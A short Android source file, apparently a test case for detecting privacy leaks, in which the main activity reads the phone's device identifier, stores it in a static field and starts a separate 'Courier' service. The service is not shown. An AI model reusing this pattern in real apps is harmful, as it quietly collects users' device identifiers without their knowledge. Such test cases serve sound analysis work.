package org.example.sousveil.static_field;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.TelephonyManager;

/** Sets the field. */
public class MainActivity extends Activity {
    static String current = "";
    static String colour = "green";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String found = phone.getDeviceId();
        current = found;
        startService(new Intent(this, Courier.class));
    }
}
